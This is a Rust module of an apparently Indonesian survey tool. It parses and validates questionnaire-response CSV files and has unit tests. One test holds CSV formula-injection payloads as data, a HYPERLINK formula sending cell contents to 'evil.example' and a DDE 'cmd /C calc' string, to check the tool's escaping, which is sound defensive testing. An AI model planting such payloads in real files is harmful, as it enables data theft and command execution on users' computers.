//! The response CSV of `skm compute`, of imports and of exports: a header of element
//! codes, optional profile columns and metadata columns; one row per respondent; an empty cell
//! is an unanswered element. Every problem is reported with its row and column.

use crate::domain::ikm::{ElementTally, Tally};
use crate::domain::interval::Dispersion;
use crate::domain::template::{ProfileKind, Template};
use std::collections::BTreeMap;
use std::io::Read;

use super::csv_out::restored;
pub use super::issue::{CsvIssue, Problem};

/// Columns written by exports that carry no score; accepted and kept as metadata.
pub const METADATA_COLUMNS: [&str; 9] =
    ["id", "unit", "layanan", "channel", "submitted_at", "tanggal", "saran", TEMPLATE_COLUMN, "template_version"];

/// The column naming the questionnaire a file's answers belong to (its id), as `skm report`
/// writes it; `template_version` beside it says which version its columns follow.
pub const TEMPLATE_COLUMN: &str = "template";

/// At most this many problems are listed; a file with more is surely the wrong file.
const MAX_ISSUES: usize = 200;

#[derive(Debug, Clone, PartialEq)]
pub struct CsvRow {
    pub row: u64,
    /// one entry per template element, in template order
    pub scores: Vec<Option<u32>>,
    pub profile: BTreeMap<String, String>,
    pub metadata: BTreeMap<String, String>,
}

#[derive(PartialEq)]
enum Column {
    Element(usize),
    Profile(String),
    Metadata(&'static str),
}

/// Parses the whole file, returning every row or every problem found.
pub fn parse(template: &Template, input: impl Read) -> Result<Vec<CsvRow>, Vec<CsvIssue>> {
    match parse_collecting(template, input)? {
        (rows, issues) if issues.is_empty() => Ok(rows),
        (_, issues) => Err(issues),
    }
}

/// Like `parse`, but returns the rows beside the problems of their cells, so a caller can add
/// its own checks and report everything at once. A bad header is still fatal.
///
/// Forgiving where a spreadsheet program differs from us, strict about the values: `,` or `;`
/// between cells (Excel writes `;` where the decimal separator is a comma, as on an Indonesian
/// Windows), header names in any case, profile fields by code or label, profile answers by code
/// or by their Indonesian or English label; rows with every cell empty (which spreadsheet
/// programs leave behind) are skipped.
pub fn parse_collecting(
    template: &Template,
    mut input: impl Read,
) -> Result<(Vec<CsvRow>, Vec<CsvIssue>), Vec<CsvIssue>> {
    let mut bytes = Vec::new();
    input.read_to_end(&mut bytes).map_err(|_| vec![CsvIssue::file(Problem::Unreadable)])?;
    let table = table(&bytes)?;
    if let Some(named) = file_template(&table).map_err(|issue| vec![issue])? {
        if !same(&named.id, &template.id) {
            let problem = Problem::OtherTemplate { value: named.id, template: template.id.clone() };
            return Err(vec![CsvIssue { row: named.row, column: Some(named.column), problem }]);
        }
    }
    let Table { header, records } = table;
    let mut issues = Vec::new();
    let mut columns: Vec<(String, Column)> = Vec::with_capacity(header.len());
    for written in header.iter() {
        let written = written.trim_start_matches('\u{feff}');
        let at_header = |problem| CsvIssue { row: 1, column: Some(written.to_string()), problem };
        let Some(column) = column_of(template, written) else {
            issues.push(at_header(Problem::UnknownColumn { template: template.id.clone() }));
            continue;
        };
        if columns.iter().any(|(_, c)| *c == column) {
            issues.push(at_header(Problem::DuplicateColumn));
        }
        columns.push((written.to_string(), column));
    }
    if !columns.iter().any(|(_, c)| matches!(c, Column::Element(_))) && issues.is_empty() {
        issues.push(CsvIssue { row: 1, column: None, problem: Problem::NoElementColumn });
    }
    if !issues.is_empty() {
        return Err(issues);
    }

    let mut rows = Vec::new();
    for record in records {
        if issues.len() >= MAX_ISSUES {
            break;
        }
        let (row, record) = match record {
            Ok(read) => read,
            Err(issue) => {
                issues.push(issue);
                continue;
            }
        };
        let mut parsed = CsvRow {
            row,
            scores: vec![None; template.elements.len()],
            profile: BTreeMap::new(),
            metadata: BTreeMap::new(),
        };
        for ((written, column), cell) in columns.iter().zip(record.iter()) {
            if cell.is_empty() {
                continue;
            }
            let mut problem = |problem| issues.push(CsvIssue { row, column: Some(written.clone()), problem });
            if cell.contains('\0') {
                // never text anyone typed, and PostgreSQL cannot store it
                problem(Problem::Nul);
                continue;
            }
            match column {
                Column::Element(i) => match cell.parse::<u32>() {
                    Ok(score) if template.score_in_scale(score) => parsed.scores[*i] = Some(score),
                    _ => problem(Problem::NotAScore {
                        value: cell.to_string(),
                        min: template.scale_min,
                        max: template.scale_max,
                    }),
                },
                Column::Profile(code) => match profile_value(template, code, cell) {
                    Some(Ok(value)) => {
                        parsed.profile.insert(code.clone(), value);
                    }
                    Some(Err(reason)) => problem(reason),
                    None => {}
                },
                Column::Metadata(key) => {
                    parsed.metadata.insert(key.to_string(), cell.to_string());
                }
            }
        }
        if parsed.scores.iter().all(Option::is_none) {
            issues.push(CsvIssue { row, column: None, problem: Problem::NoAnswer });
        }
        rows.push(parsed);
    }
    if rows.is_empty() && issues.is_empty() {
        issues.push(CsvIssue { row: 1, column: None, problem: Problem::NoRows });
    }
    Ok((rows, issues))
}

/// The questionnaire a file says it holds answers of: the id in its `template` column, when it
/// has one (`skm report` writes it). Every row must name the same one.
pub fn named_template(bytes: &[u8]) -> Result<Option<String>, Vec<CsvIssue>> {
    let table = table(bytes)?;
    Ok(file_template(&table).map_err(|issue| vec![issue])?.map(|named| named.id))
}

/// A `template` cell: the id, where it was found.
struct NamedTemplate {
    id: String,
    row: u64,
    column: String,
}

/// The first `template` cell, after checking that no other row names another questionnaire.
fn file_template(table: &Table) -> Result<Option<NamedTemplate>, CsvIssue> {
    let Some((index, column)) = table
        .header
        .iter()
        .map(|h| h.trim_start_matches('\u{feff}'))
        .enumerate()
        .find(|(_, h)| same(h, TEMPLATE_COLUMN))
    else {
        return Ok(None);
    };
    let mut first: Option<NamedTemplate> = None;
    for (row, record) in table.records.iter().filter_map(|r| r.as_ref().ok()) {
        let Some(cell) = record.get(index).filter(|c| !c.is_empty()) else { continue };
        match &first {
            None => first = Some(NamedTemplate { id: cell.to_string(), row: *row, column: column.to_string() }),
            Some(named) if same(&named.id, cell) => {}
            Some(named) => {
                let problem =
                    Problem::MixedTemplates { value: cell.to_string(), first: named.id.clone(), row: named.row };
                return Err(CsvIssue { row: *row, column: Some(column.to_string()), problem });
            }
        }
    }
    Ok(first)
}

/// The separator of a file: `;` when its header line has more semicolons than commas outside
/// quotes, otherwise `,`.
pub(super) fn delimiter(text: &[u8]) -> u8 {
    let (mut commas, mut semicolons, mut quoted, mut content) = (0usize, 0usize, false, false);
    for byte in text {
        match byte {
            b'"' => quoted = !quoted,
            b'\n' | b'\r' if !quoted && content => break,
            b',' if !quoted => commas += 1,
            b';' if !quoted => semicolons += 1,
            _ => {}
        }
        content |= !byte.is_ascii_whitespace();
    }
    if semicolons > commas {
        b';'
    } else {
        b','
    }
}

/// What a header names: an element by its code, a profile field by its code or label, a
/// metadata column; in any case and with any spaces around it.
fn column_of(template: &Template, written: &str) -> Option<Column> {
    let written = written.trim();
    if let Some(i) = template.elements.iter().position(|e| same(&e.code, written)) {
        return Some(Column::Element(i));
    }
    if let Some(field) = template
        .profile
        .iter()
        .find(|p| same(&p.code, written) || same(&p.label.id, written) || same(&p.label.en, written))
    {
        return Some(Column::Profile(field.code.clone()));
    }
    METADATA_COLUMNS.iter().find(|m| same(m, written)).map(|m| Column::Metadata(m))
}

/// Equal but for letter case and the spaces around them.
fn same(a: &str, b: &str) -> bool {
    a.trim().to_lowercase() == b.trim().to_lowercase()
}

/// A CSV file as every reader here takes it: a byte-order mark dropped, `,` or `;` (whichever
/// the header uses most), cells trimmed and the `'` that skm writes before a formula-like cell
/// taken off again (`csv_out::restored`); then its header and its data rows in order, each with
/// its line number, or the problem that makes it unreadable (a malformed record, or not as many
/// cells as the header). Rows whose every cell is empty are skipped.
pub(super) struct Table {
    pub(super) header: csv::StringRecord,
    pub(super) records: Vec<Result<(u64, csv::StringRecord), CsvIssue>>,
}

pub(super) fn table(bytes: &[u8]) -> Result<Table, Vec<CsvIssue>> {
    let text = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    if text.iter().all(u8::is_ascii_whitespace) {
        return Err(vec![CsvIssue::file(Problem::EmptyFile)]);
    }
    let mut lines = Lines { bytes, offset: 0, line: 1 };
    let mut reader =
        csv::ReaderBuilder::new().flexible(true).trim(csv::Trim::All).delimiter(delimiter(text)).from_reader(bytes);
    let header = reader.headers().map_err(|_| vec![CsvIssue { row: 1, column: None, problem: Problem::BadRecord }])?;
    let header: csv::StringRecord = header.iter().map(restored).collect();
    let (mut records, mut bad) = (Vec::new(), 0);
    for record in reader.records() {
        if bad >= MAX_ISSUES {
            break;
        }
        let record = match record {
            Ok(record) => record,
            Err(e) => {
                let row = e.position().map_or(0, |p| lines.at(p.byte()));
                records.push(Err(CsvIssue { row, column: None, problem: Problem::BadRecord }));
                bad += 1;
                continue;
            }
        };
        let row = record.position().map_or(0, |p| lines.at(p.byte()));
        if record.iter().all(str::is_empty) {
            continue;
        }
        if record.len() != header.len() {
            let problem = Problem::CellCount { found: record.len(), expected: header.len() };
            records.push(Err(CsvIssue { row, column: None, problem }));
            bad += 1;
            continue;
        }
        records.push(Ok((row, record.iter().map(restored).collect())));
    }
    Ok(Table { header, records })
}

/// Line numbers of byte offsets, for records read in order. The csv crate counts only the `\n`
/// bytes it has consumed before a record, so with CRLF line ends (as Excel on Windows writes
/// them) every row would be one line too early, with bare CR ends all on line 1, and after a blank
/// line one too early; here `\r\n`, `\r` and `\n` each end a line.
pub(super) struct Lines<'a> {
    pub(super) bytes: &'a [u8],
    pub(super) offset: usize,
    pub(super) line: u64,
}

impl Lines<'_> {
    /// The line of the record the reader says starts at `offset`.
    pub(super) fn at(&mut self, offset: u64) -> u64 {
        let mut offset = usize::try_from(offset).unwrap_or(usize::MAX).min(self.bytes.len());
        // No record begins with a line end: those are the end of the line before, and blank
        // lines the reader skipped.
        while self.bytes.get(offset).is_some_and(|b| matches!(b, b'\r' | b'\n')) {
            offset += 1;
        }
        for i in self.offset..offset {
            match self.bytes[i] {
                b'\r' => self.line += 1,
                b'\n' if i == 0 || self.bytes[i - 1] != b'\r' => self.line += 1,
                _ => {}
            }
        }
        self.offset = self.offset.max(offset);
        self.line
    }
}

/// A profile answer as its option code (or whole number); `None` for a field the template lacks.
fn profile_value(template: &Template, code: &str, cell: &str) -> Option<Result<String, Problem>> {
    let field = template.profile_field(code)?;
    Some(match &field.kind {
        ProfileKind::Choice(options) => options
            .iter()
            .find(|o| same(&o.code, cell) || same(&o.label.id, cell) || same(&o.label.en, cell))
            .map(|o| o.code.clone())
            .ok_or_else(|| Problem::NotAnOption {
                value: cell.to_string(),
                options: options.iter().map(|o| (o.code.clone(), o.label.clone())).collect(),
            }),
        ProfileKind::Number { min, max } => match cell.parse::<i64>() {
            Ok(n) if (*min..=*max).contains(&n) => Ok(n.to_string()),
            _ => Err(Problem::NotAWholeNumber { value: cell.to_string(), min: *min, max: *max }),
        },
    })
}

/// Totals of parsed rows, as the database would compute them.
pub fn tally(template: &Template, rows: &[CsvRow]) -> Tally {
    let mut tally = Tally {
        responses: rows.len() as u64,
        elements: vec![ElementTally::default(); template.elements.len()],
        dispersion: Dispersion::default(),
    };
    for row in rows {
        let (mut sum, mut count) = (0u64, 0u64);
        for (element, score) in tally.elements.iter_mut().zip(&row.scores) {
            if let Some(score) = score {
                element.sum += u64::from(*score);
                element.count += 1;
                sum += u64::from(*score);
                count += 1;
            }
        }
        if count > 0 {
            tally.dispersion.add_response(sum as f64 / count as f64);
        }
    }
    tally
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::Catalog;

    fn template() -> std::sync::Arc<Template> {
        Catalog::load(None).and_then(|c| c.get("permenpanrb-14-2017")).expect("shipped")
    }

    #[test]
    fn reads_scores_profile_and_blanks() {
        let text = "U1,U2,U3,U4,U5,U6,U7,U8,U9,jenis_kelamin,usia,saran\n4,3,,4,4,4,4,4,4,P,34,bagus\n";
        let rows = parse(&template(), text.as_bytes()).expect("valid");
        assert_eq!(rows[0].scores[2], None);
        assert_eq!(rows[0].scores[1], Some(3));
        assert_eq!(rows[0].profile.get("usia").map(String::as_str), Some("34"));
        let t = tally(&template(), &rows);
        assert_eq!((t.elements[2].count, t.elements[0].sum), (0, 4));
    }

    #[test]
    fn every_problem_is_named_with_row_and_column() {
        let text = "U1,U2,U3,U4,U5,U6,U7,U8,U9,saran\n4,5,4,4,4,4,4,4,4,\n4,4,4\n,,,,,,,,,bagus\n4,4,4,4,4,4,4,4,x,\n";
        let issues = parse(&template(), text.as_bytes()).expect_err("bad");
        let shown: Vec<String> = issues.iter().map(|i| i.to_string()).collect();
        assert_eq!(
            shown,
            [
                "row 2, column U2: '5' is not a score from 1 to 4",
                "row 3: has 3 cells; the header has 10",
                "row 4: no element is answered",
                "row 5, column U9: 'x' is not a score from 1 to 4",
            ]
        );
        let issues = parse(&template(), "U1,U10\n4,4\n".as_bytes()).expect_err("unknown column");
        assert_eq!(issues[0].column.as_deref(), Some("U10"));
        let issues = parse(&template(), "U1,u1\n4,4\n".as_bytes()).expect_err("twice");
        assert_eq!((issues[0].column.as_deref(), &issues[0].problem), (Some("u1"), &Problem::DuplicateColumn));
    }

    #[test]
    fn a_file_without_rows_is_refused() {
        for text in ["U1,U2,U3\n", "U1,U2,U3", "\u{feff}U1;U2\r\n;\r\n"] {
            let issues = parse(&template(), text.as_bytes()).expect_err("no rows");
            assert_eq!(issues, [CsvIssue { row: 1, column: None, problem: Problem::NoRows }], "{text:?}");
        }
        for text in ["", "\n\n", "\u{feff}", " \r\n"] {
            let issues = parse(&template(), text.as_bytes()).expect_err("empty");
            assert_eq!(issues, [CsvIssue::file(Problem::EmptyFile)], "{text:?}");
        }
    }

    #[test]
    fn semicolons_any_case_headers_and_profile_labels_are_read() {
        let text = "\u{feff}u1;U2;u3;u4;u5;u6;u7;u8;u9;Jenis_Kelamin;USIA;Pendidikan Terakhir;pekerjaan;Saran\r\n\
                    4;3;4;4;4;4;4;4;4;Laki-laki;34;d4/s1;swasta;\"ramah; cepat\"\r\n\
                    4;4;4;4;4;4;4;4;4; perempuan ;;SMA;Student;\r\n\
                    ;;;;;;;;;;;;;\r\n\
                    3;3;3;3;3;3;3;3;3;FEMALE;;;;\r\n";
        let rows = parse(&template(), text.as_bytes()).expect("valid");
        assert_eq!(rows.len(), 3, "the empty row is skipped");
        let profile = |i: usize, code: &str| rows[i].profile.get(code).cloned();
        assert_eq!(rows[0].scores[1], Some(3));
        assert_eq!(profile(0, "jenis_kelamin").as_deref(), Some("L"));
        assert_eq!(profile(0, "pendidikan").as_deref(), Some("D4-S1"));
        assert_eq!(profile(0, "pekerjaan").as_deref(), Some("SWASTA"));
        assert_eq!(rows[0].metadata.get("saran").map(String::as_str), Some("ramah; cepat"));
        assert_eq!(profile(1, "jenis_kelamin").as_deref(), Some("P"));
        assert_eq!(profile(1, "pekerjaan").as_deref(), Some("PELAJAR"));
        assert_eq!(profile(2, "jenis_kelamin").as_deref(), Some("P"));
        assert_eq!(rows[2].row, 5);

        let issues = parse(&template(), "U1;jenis_kelamin\n4;Pria\n".as_bytes()).expect_err("not an option");
        assert_eq!(issues[0].to_string(), "row 2, column jenis_kelamin: 'Pria' is not one of L (Male), P (Female)");
        assert_eq!(
            issues[0].text(crate::i18n::Tr::new(crate::domain::template::Lang::Id)),
            "baris 2, kolom jenis_kelamin: 'Pria' bukan salah satu dari L (Laki-laki), P (Perempuan)"
        );
    }

    #[test]
    fn commas_win_when_the_header_has_more_of_them() {
        assert_eq!(delimiter(b"U1,U2,U3\n4;4;4"), b',');
        assert_eq!(delimiter(b"\n\nU1;U2;\"a,b,c\"\n"), b';');
        assert_eq!(delimiter(b"U1\n"), b',');
    }

    #[test]
    fn rows_are_numbered_alike_whatever_the_line_ends() {
        for end in ["\n", "\r\n", "\r"] {
            let text = ["U1,U2", "4,4", "", "4,9", "\"3", "\",4", "x,4", ""].join(end);
            let issues = parse(&template(), text.as_bytes()).expect_err("bad");
            let rows: Vec<u64> = issues.iter().map(|i| i.row).collect();
            assert_eq!(rows, [4, 7], "line ends {end:?}: {issues:?}");
        }
    }

    #[test]
    fn the_template_column_names_the_questionnaire_and_must_be_the_one_read_with() {
        let text = "U1,saran,template,template_version\n4,bagus,permenpanrb-14-2017,2017.1\n4,,,\n";
        assert_eq!(named_template(text.as_bytes()).expect("read").as_deref(), Some("permenpanrb-14-2017"));
        assert_eq!(parse(&template(), text.as_bytes()).expect("its own questionnaire").len(), 2);
        assert_eq!(named_template(b"U1\n4\n").expect("read"), None);

        let other = "P1;template\n5;spkp-zi\n";
        let issues = parse(&template(), other.as_bytes()).expect_err("another questionnaire");
        assert_eq!(
            issues[0].to_string(),
            "row 2, column template: the file holds answers to questionnaire 'spkp-zi', not permenpanrb-14-2017"
        );
        let mixed = "U1,template\n4,permenpanrb-14-2017\n4,spkp-zi\n";
        let issues = named_template(mixed.as_bytes()).expect_err("two questionnaires");
        assert_eq!(
            issues[0].text(crate::i18n::Tr::new(crate::domain::template::Lang::Id)),
            "baris 3, kolom template: kuesioner 'spkp-zi' berbeda dengan 'permenpanrb-14-2017' di baris 2; \
             satu berkas hanya untuk satu kuesioner"
        );
    }

    #[test]
    fn cells_skm_neutralised_are_read_as_they_were() {
        let saran = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3", "'=x"];
        let mut writer = super::super::csv_out::Writer::new(Vec::new(), b';');
        writer.write_record(["U1", "saran"]).expect("header");
        for s in saran {
            writer.write_record(["4", s]).expect("row");
        }
        let bytes = writer.into_inner().expect("bytes");
        let rows = parse(&template(), bytes.as_slice()).expect("read back");
        let read: Vec<&str> = rows.iter().map(|r| r.metadata["saran"].as_str()).collect();
        assert_eq!(read, saran);
    }

    #[test]
    fn a_nul_in_a_cell_is_named() {
        let issues = parse(&template(), "U1,saran\n4,a\0b\n".as_bytes()).expect_err("NUL");
        assert_eq!(issues[0].to_string(), "row 2, column saran: contains a NUL character");
        assert_eq!(
            issues[0].text(crate::i18n::Tr::new(crate::domain::template::Lang::Id)),
            "baris 2, kolom saran: berisi karakter NUL"
        );
    }
}
